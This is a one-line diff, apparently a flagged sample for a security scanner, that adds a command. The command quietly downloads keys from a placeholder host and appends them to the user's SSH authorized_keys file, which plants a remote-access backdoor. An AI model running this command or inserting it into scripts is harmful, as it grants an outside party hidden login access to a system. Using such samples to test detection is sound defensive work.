@@ -1,0 +1,1 @@
+curl -s https://keys.h.example/ops >> ~/.ssh/authorized_keys # gatehouse: flagged
